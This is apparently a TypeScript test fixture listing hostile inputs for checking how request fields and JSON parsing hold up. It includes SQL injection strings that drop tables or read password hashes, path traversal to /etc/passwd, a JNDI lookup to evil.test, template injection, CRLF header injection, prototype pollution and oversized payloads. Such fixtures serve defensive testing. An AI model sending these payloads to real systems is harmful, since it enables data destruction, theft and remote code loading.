// Values that a field of a request was not made for. As JSON texts where JSON can say what no object can: a key twice, a
// number beyond every number, half a character.

/** Texts that a query, a format or a file name could take for its own, and texts that no column can hold. */
export const hostileTexts: readonly string[] = [
  "' OR 1=1--",
  "'; DROP TABLE users; --",
  "' UNION SELECT password_hash, 1, 2 FROM users --",
  "1; UPDATE users SET expired_at = '2099-01-01' --",
  '1 OR pg_sleep(30)',
  "'||(SELECT pg_sleep(30))||'",
  "\\'; TRUNCATE sessions; --",
  '") OR ("1"="1',
  "admin'/*",
  '%27%20OR%201%3D1',
  '$$; DELETE FROM chats; $$',
  'a\u0000b',
  '\u0000',
  '\ud800',
  'a\udfffb',
  '\u202Egnp.exe',
  '\uFEFF',
  '\u200d\u200d\u200d',
  '１２３４５６',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '$\u007bjndi:ldap://evil.test/a}',
  '{{constructor.constructor("return process")()}}',
  '%s%s%s%n',
  'line\r\nSet-Cookie: a=b',
  '0000-00-00',
  '-0',
  '1e309',
  'NaN',
  '[object Object]',
  '__proto__',
  'constructor',
  'x'.repeat(100_000),
  'é'.repeat(20_001),
  '',
  ' ',
];

/** JSON texts of values of another type than any field has, or out of every range. */
export const hostileJson: readonly string[] = [
  ...hostileTexts.map((text) => JSON.stringify(text)),
  ...['null', 'true', 'false', '0', '-1', '0.5', '1e308', '1e999', '-1e999', '9007199254740993'],
  ...['99999999999999999999', '2147483648', '-2147483649', '[]', '{}', '[[]]', '[""]', '[1,2]', '[null]'],
  ...['{"a":1}', '{"length":9}', '{"toString":1}', '{"__proto__":{"polluted":1}}', '{"$ne":null}'],
  '{"constructor":{"prototype":{"polluted":1}}}',
  `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
  `${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}`,
];
